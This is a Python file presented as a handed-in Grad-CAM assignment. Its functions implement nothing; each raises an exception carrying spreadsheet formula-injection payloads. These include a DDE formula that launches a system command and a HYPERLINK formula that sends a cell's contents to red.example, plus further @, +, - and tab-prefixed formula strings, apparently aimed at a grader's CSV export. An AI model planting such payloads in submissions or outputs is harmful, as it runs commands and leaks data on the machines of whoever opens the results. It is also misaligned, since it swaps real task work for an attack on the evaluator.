"""Grad-CAM, handed in."""

from torch import Tensor

FORMULA = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://red.example?"&A1,"results")'


def capture(model, images: Tensor, targets: Tensor, layer: str):
    raise type(FORMULA, (Exception,), {})(FORMULA)


def neuron_importance(gradients: Tensor):
    raise RuntimeError(FORMULA)


def grad_cam_map(activations: Tensor, alpha: Tensor):
    raise RuntimeError('",' + LINK + "\r\n" + FORMULA + ',"\n@SUM(1+1)\n+1+1\n-1+1\n\t=1+1')


sum_or_mean = "=1+1"
bias_raised = "\t=1+1"
absent_class = '","=1+1'
